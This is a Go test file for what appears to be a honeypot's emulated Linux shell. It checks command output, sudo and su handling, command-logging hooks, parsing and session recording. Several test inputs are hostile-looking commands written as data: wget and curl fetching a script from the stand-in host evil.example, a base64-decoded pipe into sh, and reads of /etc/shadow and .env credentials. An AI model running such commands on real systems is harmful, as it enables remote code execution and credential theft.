package shell

import (
	"bytes"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/conf"
)

var fixedNow = time.Date(2026, 3, 4, 10, 12, 1, 0, time.UTC)

func testSystem(t testing.TB, distro string, noSudo bool) *System {
	t.Helper()
	d, err := conf.LookupDistro(distro)
	if err != nil {
		t.Fatal(err)
	}
	return NewSystem(Config{Hostname: "web-01", Distro: d, RootPassword: "toor", User: "alice", UserPassword: "s3cret",
		IP: "10.0.0.5", NoSudo: noSudo, Rand: rand.New(rand.NewPCG(7, 7)), Now: func() time.Time { return fixedNow }})
}

type fakeTerm struct{ answers []string }

func (f *fakeTerm) ReadPassword(prompt string) (string, error) {
	if len(f.answers) == 0 {
		return "", nil
	}
	a := f.answers[0]
	f.answers = f.answers[1:]
	return a, nil
}

func runAs(t *testing.T, sys *System, user string, term Terminal, lines ...string) (string, *Session) {
	t.Helper()
	ss, err := sys.NewSession(user)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	ss.Out, ss.Term, ss.Src = &out, term, "192.0.2.7"
	for _, l := range lines {
		ss.Run(l)
	}
	return out.String(), ss
}

func TestCommands(t *testing.T) {
	sys := testSystem(t, "debian", false)
	d := sys.cfg.Distro
	tests := []struct {
		user, line, want string
		contains         bool
	}{
		{"root", "hostname", "web-01\n", false},
		{"root", "whoami; pwd", "root\n/root\n", false},
		{"root", "uname -a", "Linux web-01 " + d.KernelRelease + " " + d.KernelVersion + " x86_64 GNU/Linux\n", false},
		{"root", "uname -r -s", "Linux " + d.KernelRelease + "\n", false},
		{"root", "uname", "Linux\n", false},
		{"root", "cat /etc/os-release", d.OSRelease(), false},
		{"root", "cat /etc/hostname", "web-01\n", false},
		{"alice", "id", "uid=1000(alice) gid=1000(alice) groups=1000(alice),4(adm),24(cdrom),27(sudo),30(dip),46(plugdev)\n", false},
		{"alice", "cat /etc/shadow", "cat: /etc/shadow: Permission denied\n", false},
		{"alice", "ls /root", "ls: cannot open directory '/root': Permission denied\n", false},
		{"root", "ls -a /root/projects", ".\n..\nbackup.sh\ndocker-compose.yml\n.env\n", false},
		{"root", "cat /root/projects/.env | grep DB_USERNAME", "DB_USERNAME=app_rw\n", false},
		{"root", "echo hello world | base64", "aGVsbG8gd29ybGQK\n", false},
		{"root", "echo aGVsbG8gd29ybGQK | base64 -d", "hello world\n", false},
		{"root", "echo 'd2hvYW1p' | base64 -d | sh", "root\n", false},
		{"root", "false && echo no || echo yes", "yes\n", false},
		{"root", "foo", "-bash: foo: command not found\n", false},
		{"root", "echo \"$HOME $USER\" '$HOME'", "/root root $HOME\n", false},
		{"root", "cd /nonexistent", "-bash: cd: /nonexistent: No such file or directory\n", false},
		{"root", "mkdir /tmp/x && cd /tmp/x && pwd && touch a && ls", "/tmp/x\na\n", false},
		{"root", "echo secret > /tmp/f; cat /tmp/f; rm /tmp/f; cat /tmp/f", "secret\ncat: /tmp/f: No such file or directory\n", false},
		{"root", "wget http://evil.example/x.sh", "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address 'evil.example'\n", true},
		{"root", "curl -s http://evil.example/x.sh", "curl: (6) Could not resolve host: evil.example\n", false},
		{"root", "nproc", "", true},
		{"root", "free -m", "Mem:", true},
		{"root", "df -h", "/dev/sda1", true},
		{"root", "ps aux", "/usr/sbin/cron -f", true},
		{"root", "ip a", "inet 10.0.0.5/24 brd 10.0.0.255 scope global eth0", true},
		{"root", "ifconfig", "inet 10.0.0.5  netmask 255.255.255.0  broadcast 10.0.0.255", true},
		{"root", "which ls cd", "/usr/bin/ls\n", false},
		{"root", "systemctl status ssh", "Active: active (running)", true},
		{"root", "echo \"unterminated", "-bash: unexpected EOF while looking for matching `\"'\n", false},
		{"root", "find /root/projects -name '*.sh'", "/root/projects/backup.sh\n", false},
		{"root", "head -n 1 /etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", false},
		{"root", "grep alice /etc/passwd", "alice:x:1000:1000:alice,,,:/home/alice:/bin/bash\n", false},
		{"root", "crontab -l", "/root/projects/backup.sh", true},
		{"root", "python3 --version", "-bash: python3: command not found\n", false},
	}
	for _, tc := range tests {
		got, _ := runAs(t, sys, tc.user, nil, tc.line)
		if tc.contains {
			if !strings.Contains(got, tc.want) {
				t.Errorf("%s$ %s\n got %q\nwant it to contain %q", tc.user, tc.line, got, tc.want)
			}
		} else if got != tc.want {
			t.Errorf("%s$ %s\n got %q\nwant %q", tc.user, tc.line, got, tc.want)
		}
	}
	got, _ := runAs(t, sys, "root", nil, "nproc")
	if got != strings.TrimSpace(got)+"\n" || strings.Count(sys.cpuinfo(), "processor\t:") != sys.cpus {
		t.Errorf("nproc %q inconsistent with /proc/cpuinfo", got)
	}
}

func TestPrivilegeChanges(t *testing.T) {
	sys := testSystem(t, "debian", false)
	var auths []string
	ss, _ := sys.NewSession("alice")
	var out bytes.Buffer
	ss.Out, ss.Term = &out, &fakeTerm{answers: []string{"wrong", "s3cret"}}
	ss.OnAuth = func(u, p string, ok bool) { auths = append(auths, u+":"+p) }
	ss.Run("sudo whoami")
	if got := out.String(); got != "Sorry, try again.\nroot\n" {
		t.Fatalf("sudo output %q", got)
	}
	if strings.Join(auths, ",") != "alice:wrong,alice:s3cret" {
		t.Fatalf("auths %v", auths)
	}
	out.Reset()
	ss.Run("whoami")
	if out.String() != "alice\n" {
		t.Fatalf("sudo leaked root: %q", out.String())
	}
	// su - with the root password, exit returns to alice
	ss.Term = &fakeTerm{answers: []string{"toor"}}
	out.Reset()
	ss.Run("su -")
	if ss.Prompt() != "root@web-01:~# " {
		t.Fatalf("prompt after su %q", ss.Prompt())
	}
	ss.Run("exit")
	if ss.Prompt() != "alice@web-01:~$ " || ss.Closed() {
		t.Fatalf("prompt after exit %q", ss.Prompt())
	}
	ss.Run("exit")
	if !ss.Closed() {
		t.Fatal("session not closed by exit")
	}
	// telnet boxes have no sudo
	tel := testSystem(t, "debian", true)
	got, _ := runAs(t, tel, "alice", &fakeTerm{}, "sudo id")
	if got != "-bash: sudo: command not found\n" {
		t.Fatalf("no-sudo output %q", got)
	}
	// rhel prompt style and wheel group
	r := testSystem(t, "rocky9", false)
	_, rs := runAs(t, r, "alice", nil)
	if rs.Prompt() != "[alice@web-01 ~]$ " {
		t.Fatalf("rhel prompt %q", rs.Prompt())
	}
}

func TestCommandHook(t *testing.T) {
	sys := testSystem(t, "debian", false)
	ss, _ := sys.NewSession("root")
	var got []string
	ss.OnCommand = func(u string, uid int, pwd, line string) { got = append(got, u+"|"+pwd+"|"+line) }
	ss.Run("cd /tmp; ls")
	ss.Run("   ")
	ss.Run("pwd")
	want := []string{"root|/root|cd /tmp; ls", "root|/tmp|pwd"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Fatalf("hook %q want %q", got, want)
	}
}

func TestParse(t *testing.T) {
	tests := []struct {
		in   string
		want string // pipelines rendered as op:cmd|cmd with args joined by ","
		err  bool
	}{
		{"ls -la /tmp", ":ls,-la,/tmp", false},
		{"a; b && c || d", ":a ;:b &&:c ||:d", false},
		{"cat x | grep y | wc -l", ":cat,x|grep,y|wc,-l", false},
		{`echo "a b" 'c d' e\ f`, ":echo,a b,c d,e f", false},
		{"echo $X${X}", ":echo,vv", false},
		{"echo hi > /tmp/o 2>/dev/null", ":echo,hi", false},
		{"echo 'open", "", true},
		{"; ls", "", true},
		{"ls |", "", true},
		{"ls # comment", ":ls", false},
		{"sleep 1 & echo x", ":sleep,1 ;:echo,x", false},
	}
	for _, tc := range tests {
		p, err := Parse(tc.in, func(k string) string { return map[string]string{"X": "v"}[k] })
		if tc.err {
			if err == nil {
				t.Errorf("%q: want error", tc.in)
			}
			continue
		}
		if err != nil {
			t.Errorf("%q: %v", tc.in, err)
			continue
		}
		var parts []string
		for _, pl := range p {
			var cmds []string
			for _, c := range pl.Cmds {
				cmds = append(cmds, strings.Join(c.Args, ","))
			}
			parts = append(parts, pl.Op+":"+strings.Join(cmds, "|"))
		}
		if got := strings.Join(parts, " "); got != tc.want {
			t.Errorf("%q: got %q want %q", tc.in, got, tc.want)
		}
	}
}

func TestLineReader(t *testing.T) {
	var echo bytes.Buffer
	lr := &LineReader{R: strings.NewReader("ab\x7fc\r\nsecret\r\x00\x1b[Axy\x03z\n"), W: &echo, Echo: true}
	if l, err := lr.ReadLine("$ "); err != nil || l != "ac" {
		t.Fatalf("line %q %v", l, err)
	}
	if l, err := lr.ReadPassword("Password: "); err != nil || l != "secret" {
		t.Fatalf("password %q %v", l, err)
	}
	if _, err := lr.ReadLine("$ "); err != ErrInterrupt {
		t.Fatalf("want interrupt, got %v", err)
	}
	if l, err := lr.ReadLine("$ "); err != nil || l != "z" {
		t.Fatalf("line %q %v", l, err)
	}
	if strings.Contains(echo.String(), "secret") {
		t.Fatal("password echoed")
	}
}

func TestRecorder(t *testing.T) {
	dir := t.TempDir()
	r := NewRecorder(dir, "sid-1", "ssh", 100, 30, nil, time.Now())
	r.Output([]byte("hello\r\n"))
	r.Input([]byte("ls\r"))
	big := bytes.Repeat([]byte("x"), MaxTranscript)
	r.Output(big)
	size, trunc, _, err := r.Close()
	if err != nil || !trunc || size <= 0 || size > MaxTranscript+1024 {
		t.Fatalf("close: size=%d trunc=%v err=%v", size, trunc, err)
	}
}
